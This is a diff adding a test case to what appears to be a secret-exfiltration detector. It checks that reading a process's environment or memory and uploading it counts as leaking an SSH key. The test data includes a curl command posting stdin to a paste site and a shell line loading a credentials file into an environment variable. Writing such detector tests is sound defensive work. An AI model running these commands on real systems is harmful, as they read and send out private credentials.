@@ -203,6 +203,33 @@ TEST_CASE("another process's memory carries what its owner held when the copy wa
     CHECK(silent(two));
 }
 
+TEST_CASE("another process's environment carries what its owner held at its exec, not what it read since")
+{
+    // `AWS_SECRET=$(cat credentials) sleep 600 &`: the shell held the key when it forked the
+    // child that exec'd; an unrelated process reads the child's environment and uploads it.
+    Timeline tl;
+    auto shell = tl.start_session({"bash", "deploy.sh"});
+    tl.read(shell, key, 2600);
+    auto holder = tl.spawn(shell, {"sleep", "600"});
+    auto thief = tl.start_session({"curl", "-sk", "--data-binary", "@-", "https://paste.rs/"});
+    tl.memory_io(thief, holder, IoDirection::read, 2600, ObjectKind::process_environ);
+    tl.transfer(thief, "paste.rs", 1300 + 2600, 400);
+    REQUIRE_FALSE(silent(tl));
+    CHECK(tl.alerts[0].reason.find("bash read ~/.ssh/id_ed25519") != std::string::npos);
+
+    // A process that read the key after its exec (an agent holding it) has no key in its
+    // environment: reading that carries nothing, while reading its memory does.
+    for (auto kind : {ObjectKind::process_environ, ObjectKind::process_memory}) {
+        Timeline after;
+        auto agent = after.start_session({"python3", "agent.py"});
+        after.read(agent, key, 2600);
+        auto reader = after.start_session({"curl", "-sk", "--data-binary", "@-", "https://paste.rs/"});
+        after.memory_io(reader, agent, IoDirection::read, 2600, kind);
+        after.transfer(reader, "paste.rs", 1300 + 2600, 400);
+        CHECK(silent(after) == (kind == ObjectKind::process_environ));
+    }
+}
+
 TEST_CASE("UNIX stream, datagram and socketpair channels carry taint, also when the read came first")
 {
     for (auto order : {0, 1}) {
